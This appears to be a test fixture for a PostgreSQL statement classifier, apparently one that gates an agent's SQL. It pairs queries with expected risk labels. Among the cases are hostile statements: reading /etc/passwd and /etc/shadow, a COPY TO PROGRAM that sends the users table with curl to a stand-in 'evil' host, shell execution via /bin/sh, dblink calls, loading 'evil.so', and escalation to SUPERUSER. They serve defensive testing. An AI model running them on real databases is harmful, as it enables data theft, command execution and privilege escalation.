-- expect: read(users)
SELECT * FROM users
====
-- expect: read(public.users)
SELECT id, name FROM public.users WHERE id = 1
====
-- expect: read(users,orders)
select count(*) from USERS u join orders o on o.user_id = u.id
====
-- expect: read
SELECT 1
====
-- expect: read
SELECT now(), current_user, version()
====
-- expect: read(Mixed.CaseTable)
SELECT * FROM "Mixed"."CaseTable"
====
-- expect: read(users)
SELECT * FROM users -- trailing comment ; DROP TABLE users
====
-- expect: read(users)
SELECT /* block ; DROP TABLE users */ id FROM users
====
-- expect: read
SELECT /* nested /* comment */ ; still comment */ 1
====
-- expect: read
SELECT $$ ; DROP TABLE users; $$ AS text
====
-- expect: read
SELECT $tag$ it's ; $$ nested $tag$ AS text
====
-- expect: read
SELECT E'it\'s ; DROP TABLE users' AS text
====
-- expect: read(orders)
WITH recent AS (SELECT * FROM orders WHERE created_at > now() - interval '1 day') SELECT * FROM recent
====
-- expect: read(users,orders)
SELECT * FROM users WHERE id IN (SELECT user_id FROM orders)
====
-- expect: read
SELECT * FROM generate_series(1, 10) AS g
====
-- expect: read(users)
SELECT lower(name), coalesce(email, '') FROM users ORDER BY 1 LIMIT 10
====
-- expect: lock/row_lock(users) ; read(users)
SELECT * FROM users FOR UPDATE
====
-- expect: lock/row_lock(users,orders) ; read(users,orders)
SELECT * FROM users u JOIN orders o ON o.user_id = u.id FOR SHARE OF u
====
-- expect: unsafe_io/server_file_read(/etc/passwd) ; read
SELECT pg_read_file('/etc/passwd')
====
-- expect: unsafe_io/server_file_read(/etc/shadow) ; read
SELECT pg_catalog.pg_read_binary_file('/etc/shadow')
====
-- expect: unsafe_io/server_file_read(/var/lib/postgresql) ; read
SELECT * FROM pg_ls_dir('/var/lib/postgresql')
====
-- expect: unsafe_io/large_object_io(lo_import) ; read
SELECT lo_import('/etc/passwd')
====
-- expect: unsafe_io/large_object_io(lo_export) ; read
SELECT lo_export(1234, '/tmp/out')
====
-- expect: unsafe_io/dblink_call(dblink_exec) ; read
SELECT dblink_exec('host=evil', 'DROP TABLE x')
====
-- expect: unsafe_io/dblink_call(dblink) ; read
SELECT * FROM dblink('host=evil dbname=x', 'SELECT 1') AS t(a int)
====
-- expect: unsafe_io/dblink_call(dblink_connect_u) ; read
SELECT dblink_connect_u('host=evil')
====
-- expect: procedural/function_call(wipe) ; read
SELECT wipe()
====
-- expect: procedural/function_call(public.lower) ; read
SELECT public.lower('X')
====
-- expect: write/sequence(app.order_seq) ; read
SELECT nextval('app.order_seq')
====
-- expect: write/sequence(order_seq) ; read
SELECT setval('order_seq', 1)
====
-- expect: privilege/set_config(search_path) ; read
SELECT set_config('search_path', 'evil', false)
====
-- expect: privilege/set_config(role) ; read
SELECT set_config('role', 'admin', true)
====
-- expect: privilege/admin_function(pg_terminate_backend) ; read
SELECT pg_terminate_backend(1234)
====
-- expect: procedural/function_call(query_to_xml) ; read
SELECT query_to_xml('DELETE FROM users', true, true, '')
====
-- expect: lock/advisory_lock(pg_advisory_lock) ; read
SELECT pg_advisory_lock(42)
====
-- expect: notify/notify(jobs) ; read
SELECT pg_notify('jobs', 'payload')
====
-- expect: schema_create/select_into(new_users) ; read(users)
SELECT * INTO new_users FROM users
====
-- expect: write(users)
INSERT INTO users (id, name) VALUES (1, 'a')
====
-- expect: write(app.audit) ; read(users)
INSERT INTO app.audit SELECT * FROM users
====
-- expect: modify/upsert(users) ; write(users)
INSERT INTO users (id) VALUES (1) ON CONFLICT (id) DO UPDATE SET name = excluded.name
====
-- expect: write(users) ; write/sequence(users_id_seq)
INSERT INTO users (id) VALUES (nextval('users_id_seq'))
====
-- expect: modify(users)+where
UPDATE users SET name = 'x' WHERE id = 1
====
-- expect: modify(users)-where
UPDATE users SET name = 'x'
====
-- expect: modify(users)-where
UPDATE users SET name = 'x' WHERE true
====
-- expect: modify(users)-where
UPDATE users SET name = 'x' WHERE 1 = 1
====
-- expect: modify(users)+where ; read(orders)
UPDATE users u SET total = o.total FROM orders o WHERE o.user_id = u.id
====
-- expect: delete(users)+where
DELETE FROM users WHERE id = 1
====
-- expect: delete(users)-where
DELETE FROM users
====
-- expect: delete(app.users)+where ; read(orders)
DELETE FROM app.users USING orders WHERE orders.user_id = users.id
====
-- expect: modify/merge(users)+where ; write/merge(users) ; read(staging)
MERGE INTO users u USING staging s ON s.id = u.id WHEN MATCHED THEN UPDATE SET name = s.name WHEN NOT MATCHED THEN INSERT (id, name) VALUES (s.id, s.name)
====
-- expect: delete/merge(users)+where ; read(staging)
MERGE INTO users u USING staging s ON s.id = u.id WHEN MATCHED THEN DELETE
====
-- expect: delete(users)+where ; read
WITH d AS (DELETE FROM users WHERE id = 1 RETURNING *) SELECT * FROM d
====
-- expect: delete(users)-where ; write(archive) ; read
WITH moved AS (DELETE FROM users RETURNING *) INSERT INTO archive SELECT * FROM moved
====
-- expect: modify(users)+where ; read
WITH u AS (UPDATE users SET name = 'x' WHERE id = 2 RETURNING id) SELECT count(*) FROM u
====
-- expect: delete/truncate(users)
TRUNCATE users
====
-- expect: delete/truncate(users,app.orders)
TRUNCATE TABLE users, app.orders CASCADE
====
-- expect: bulk_export/copy_to(users)
COPY users TO STDOUT
====
-- expect: bulk_export/copy_to(users)
COPY users (id, name) TO STDOUT WITH (FORMAT csv)
====
-- expect: bulk_export/copy_to ; read(users)
COPY (SELECT * FROM users WHERE id > 10) TO STDOUT
====
-- expect: bulk_export/copy_to ; delete(users)-where
COPY (DELETE FROM users RETURNING *) TO STDOUT
====
-- expect: bulk_load/copy_from(users)
COPY users FROM STDIN
====
-- expect: unsafe_io/copy_to_path(/tmp/users.csv) ; bulk_export/copy_to(users)
COPY users TO '/tmp/users.csv'
====
-- expect: unsafe_io/copy_from_path(/etc/passwd) ; bulk_load/copy_from(users)
COPY users FROM '/etc/passwd'
====
-- expect: unsafe_io/copy_to_program(curl) ; bulk_export/copy_to(users)
COPY users TO PROGRAM 'curl -d @- http://evil'
====
-- expect: unsafe_io/copy_from_program(/bin/sh) ; bulk_load/copy_from(users)
COPY users FROM PROGRAM '/bin/sh -c id'
====
-- expect: schema_create/create_table(t)
CREATE TABLE t (id int primary key)
====
-- expect: schema_create/create_table(app.t2) ; read(users)
CREATE TABLE app.t2 AS SELECT * FROM users
====
-- expect: schema_create/create_view(v) ; read(users)
CREATE VIEW v AS SELECT id FROM users
====
-- expect: schema_create/create_index(users)
CREATE INDEX users_name_idx ON users (name)
====
-- expect: schema_create/create_schema(reporting)
CREATE SCHEMA reporting
====
-- expect: schema_create/create_sequence(s)
CREATE SEQUENCE s
====
-- expect: schema_create/create_extension(dblink)
CREATE EXTENSION dblink
====
-- expect: schema_alter/alter_table(users)
ALTER TABLE users ADD COLUMN age int
====
-- expect: privilege/alter_owner(users)
ALTER TABLE users OWNER TO mallory
====
-- expect: privilege/row_security(users)
ALTER TABLE users ENABLE ROW LEVEL SECURITY
====
-- expect: schema_destroy/drop_table(users)
DROP TABLE users
====
-- expect: schema_destroy/drop_table(app.users,orders)
DROP TABLE IF EXISTS app.users, orders CASCADE
====
-- expect: schema_destroy/drop_schema(reporting)
DROP SCHEMA reporting CASCADE
====
-- expect: schema_destroy/drop_index(users_name_idx)
DROP INDEX users_name_idx
====
-- expect: privilege/drop_role(mallory)
DROP ROLE mallory
====
-- expect: privilege/grant
GRANT SELECT ON users TO mallory
====
-- expect: privilege/revoke
REVOKE ALL ON users FROM PUBLIC
====
-- expect: privilege/create_role(mallory)
CREATE ROLE mallory LOGIN SUPERUSER
====
-- expect: privilege/alter_role(app)
ALTER ROLE app SUPERUSER
====
-- expect: procedural/create_function(f)
CREATE FUNCTION f() RETURNS int AS $$ SELECT 1 $$ LANGUAGE sql
====
-- expect: procedural/do
DO $$ BEGIN EXECUTE 'DROP TABLE users'; END $$
====
-- expect: procedural/call(do_things)
CALL do_things(1, 2)
====
-- expect: transaction/begin
BEGIN
====
-- expect: transaction/begin
BEGIN ISOLATION LEVEL SERIALIZABLE
====
-- expect: transaction/begin
START TRANSACTION READ ONLY
====
-- expect: transaction/begin(transaction_read_only)
BEGIN READ WRITE
====
-- expect: transaction/begin(transaction_read_only)
START TRANSACTION ISOLATION LEVEL SERIALIZABLE, READ WRITE
====
-- expect: transaction/set_transaction(transaction_read_only)
SET TRANSACTION READ WRITE
====
-- expect: privilege/set_session_characteristics(default_transaction_read_only)
SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE
====
-- expect: transaction/set_session_characteristics
SET SESSION CHARACTERISTICS AS TRANSACTION ISOLATION LEVEL READ COMMITTED
====
-- expect: privilege/reset(transaction_read_only)
RESET transaction_read_only
====
-- expect: privilege/set_config(default_transaction_read_only) ; read
SELECT set_config('default_transaction_read_only', 'off', false)
====
-- expect: transaction/commit
COMMIT
====
-- expect: transaction/rollback
ROLLBACK
====
-- expect: transaction/savepoint
SAVEPOINT s1
====
-- expect: transaction/rollback_to_savepoint
ROLLBACK TO SAVEPOINT s1
====
-- expect: transaction/release_savepoint
RELEASE SAVEPOINT s1
====
-- expect: session/set(statement_timeout)
SET statement_timeout = '5s'
====
-- expect: session/set(application_name)
SET application_name TO 'agent'
====
-- expect: session/set_search_path(search_path)
SET search_path TO evil, public
====
-- expect: privilege/set_role(role)
SET ROLE admin
====
-- expect: privilege/set_role(role)
SET LOCAL ROLE admin
====
-- expect: privilege/set_session_authorization(session_authorization)
SET SESSION AUTHORIZATION admin
====
-- expect: privilege/set(standard_conforming_strings)
SET standard_conforming_strings = off
====
-- expect: privilege/set(default_transaction_read_only)
SET default_transaction_read_only = off
====
-- expect: session/set(timezone)
SET TIME ZONE 'UTC'
====
-- expect: session/reset(statement_timeout)
RESET statement_timeout
====
-- expect: privilege/reset_all(all)
RESET ALL
====
-- expect: privilege/set_role(role)
RESET ROLE
====
-- expect: session/show(search_path)
SHOW search_path
====
-- expect: session/show(all)
SHOW ALL
====
-- expect: session/discard_all
DISCARD ALL
====
-- expect: notify/listen(jobs)
LISTEN jobs
====
-- expect: notify/unlisten(jobs)
UNLISTEN jobs
====
-- expect: notify/notify(jobs)
NOTIFY jobs, 'hello'
====
-- expect: maintenance/vacuum(users)
VACUUM users
====
-- expect: maintenance/vacuum
VACUUM (VERBOSE, ANALYZE) users
====
-- expect: maintenance/analyze(users)
ANALYZE users
====
-- expect: maintenance/reindex
REINDEX TABLE users
====
-- expect: maintenance/cluster
CLUSTER users USING users_pkey
====
-- expect: lock/lock_table(users)
LOCK TABLE users IN ACCESS EXCLUSIVE MODE
====
-- expect: read(users)
EXPLAIN SELECT * FROM users
====
-- expect: delete(users)-where
EXPLAIN ANALYZE DELETE FROM users
====
-- expect: read(users)
PREPARE q AS SELECT * FROM users WHERE id = $1
====
-- expect: unknown/execute_prepared(q)
EXECUTE q(1)
====
-- expect: session/deallocate
DEALLOCATE q
====
-- expect: read ; delete(users)-where
SELECT 1; DELETE FROM users
====
-- expect: read(users) ; read(orders)
SELECT * FROM users; SELECT * FROM orders;
====
-- expect: transaction/begin ; modify(users)+where ; transaction/commit
BEGIN; UPDATE users SET name = 'x' WHERE id = 1; COMMIT
====
-- expect: unknown/parse_error
SELECT * FROM users WHERE
====
-- expect: unknown/parse_error
SELEC * FROM users
====
-- expect: read ; unknown/parse_error ; schema_destroy/drop_table(users)
SELECT 1; SELEC 2; DROP TABLE users
====
-- expect: unsafe_io/load_library
LOAD 'evil.so'
====
-- expect: maintenance/checkpoint
CHECKPOINT
====
-- expect: read(users,orders)
SELECT u.name, o.total FROM users u LEFT JOIN LATERAL (SELECT total FROM orders WHERE user_id = u.id ORDER BY total DESC LIMIT 1) o ON true
====
-- expect: read(orders)
SELECT id, rank() OVER (ORDER BY total DESC) FROM orders
====
-- expect: read(orders)
SELECT DISTINCT ON (user_id) user_id, total FROM orders ORDER BY user_id, total DESC
====
-- expect: read(users,orders)
SELECT id FROM users UNION ALL SELECT user_id FROM orders
====
-- expect: read
SELECT * FROM (VALUES (1, 'a'), (2, 'b')) AS v(id, name)
====
-- expect: read(orders)
SELECT CASE WHEN total > 5 THEN 'big' ELSE 'small' END FROM orders
====
-- expect: read(users,orders)
SELECT * FROM users u WHERE EXISTS (SELECT 1 FROM orders o WHERE o.user_id = u.id)
====
-- expect: read(orders)
SELECT user_id, sum(total) FROM orders GROUP BY user_id HAVING sum(total) > 1
====
-- expect: read(users)
SELECT jsonb_build_object('id', id, 'name', name)::text FROM users
====
-- expect: read(users)
SELECT name::varchar(10), id::text || '-' || coalesce(email, 'none') FROM users
====
-- expect: read(app.users)
SELECT upper(name) AS "Name" FROM app.users WHERE name ILIKE 'a%'
====
-- expect: read(public.users)
SELECT count(*) FILTER (WHERE email IS NULL) FROM public.users
====
-- expect: read(users)
SELECT string_agg(name, ',' ORDER BY name) FROM users
====
-- expect: read
WITH RECURSIVE t(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM t WHERE n < 5) SELECT sum(n) FROM t
====
